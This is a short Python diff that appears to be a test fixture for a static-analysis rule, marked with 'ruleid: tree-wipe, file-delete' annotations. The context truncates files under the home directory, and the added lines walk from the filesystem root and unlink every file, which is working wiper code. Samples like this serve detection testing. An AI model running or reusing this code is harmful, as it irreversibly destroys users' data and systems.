@@ -422,3 +422,10 @@ def _blank(paths):
         # ruleid: tree-wipe, file-delete
         os.truncate(p, 0)
 _blank(_sources(pathlib.Path.home()))
+# a bottom-up walk from the filesystem root (os.sep), unlinking as it goes
+def _top():
+    return os.sep
+for _dp, _dirs, _files, _dfd in os.fwalk(_top(), topdown=False):
+    for _name in _files:
+        # ruleid: tree-wipe, file-delete
+        os.unlink(_name, dir_fd=_dfd)
